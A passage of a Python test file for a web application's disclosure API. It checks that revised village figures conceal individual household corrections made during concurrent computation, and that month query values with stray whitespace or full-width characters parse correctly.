    again = client.get(f"/api/v1/disclosure/counties/513431?month={month}").json

    assert again["total"] == published["total"]
    assert again["revision"] is not None and again["revision"]["fewer_than"] == 3


@pytest.mark.postgres
def test_a_correction_linked_while_a_revision_is_computed_counts_among_its_changes(pg_app, monkeypatch):
    """甲村's 3 households were corrected after publication; while a reading computes the revision (after it found
    who changed, before it read the figures) h8 of 乙村 alone is corrected: 乙村's revised figure less its published
    one would be h8's change, so the revision only says it concerns fewer than 3."""
    world, line_id, month, published = _three_villages(pg_app.test_client(), monkeypatch)
    client = pg_app.test_client()
    _correct(world, line_id, 1, 3, 7)
    h8, supplier_id = world["h"][8].id, world["supplier"].id
    changes = reports._households_changed

    def correct_h8() -> None:
        with pg_app.app_context():
            chain.post(kind="line_refunded", sale_date=date.today(), order_line_id=line_id,
                       postings=[(accounts.household(h8, supplier_id), -10, "premium",
                                  {"order_line_id": line_id, "household_id": h8}),
                                 (accounts.platform(), 10, "platform_fee", {"order_line_id": line_id})])
            db.session.commit()

    def changed_then_corrected(notice):
        result = changes(notice)
        monkeypatch.setattr(reports, "_households_changed", changes)
        corrector = threading.Thread(target=correct_h8)
        corrector.start()
        corrector.join()
        return result

    monkeypatch.setattr(reports, "_households_changed", changed_then_corrected)
    again = client.get(f"/api/v1/disclosure/counties/513431?month={month}").json

    assert again["villages"] == published["villages"]
    assert {key: value for key, value in again["revision"].items() if key != "computed_at"} == {
        "households": None, "fewer_than": 3}


@pytest.mark.parametrize("written", ["2026-10 ", " 2026-10", "2026-10\n", "２０２６－１０ ", "2026-10\u200b"])
def test_a_disclosure_month_copied_with_spaces_around_it_is_read_as_a_date_is(written):
    """`?month=` takes what `?from=` takes around its digits: a month pasted with a trailing space is that month."""
    assert Month().deserialize(written) == date(2026, 10, 1)
    assert Date().deserialize(written.replace("10", "10-01").replace("１０", "１０－０１")) == date(2026, 10, 1)
